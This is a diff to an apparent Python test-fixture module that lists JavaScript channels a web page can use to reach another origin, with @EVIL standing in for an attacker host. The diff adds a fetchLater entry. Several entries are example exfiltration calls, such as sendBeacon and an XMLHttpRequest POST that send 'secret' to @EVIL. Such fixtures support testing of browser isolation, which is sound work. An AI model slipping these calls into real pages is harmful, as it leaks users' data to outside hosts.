@@ -1,8 +1,6 @@
-"""Ways in which a page can speak to another origin: scripts, in which @EVIL is that origin, @TCP and @UDP ports there."""
+"""Ways in which a page can speak to another origin: scripts, where @EVIL is that origin, @TCP and @UDP its ports."""
 
 from __future__ import annotations
-
-WORKER = "new Blob([{}], {{type: 'text/javascript'}})"
 
 
 def in_worker(kind: str, script: str) -> str:
@@ -27,6 +25,7 @@ CHANNELS = {
     "fetch": "fetch('@EVIL/fetch').catch(() => 0)",
     "fetch without CORS": "fetch('@EVIL/fetch', {mode: 'no-cors'}).catch(() => 0)",
     "fetch that outlives": "fetch('@EVIL/fetch', {mode: 'no-cors', keepalive: true, method: 'POST'}).catch(() => 0)",
+    "later fetch": "fetchLater('@EVIL/later', {activateAfter: 0})",
     "xhr": "const x = new XMLHttpRequest(); x.open('POST', '@EVIL/xhr'); x.send('secret')",
     "event source": "new EventSource('@EVIL/events')",
     "beacon": "navigator.sendBeacon('@EVIL/beacon', 'secret')",
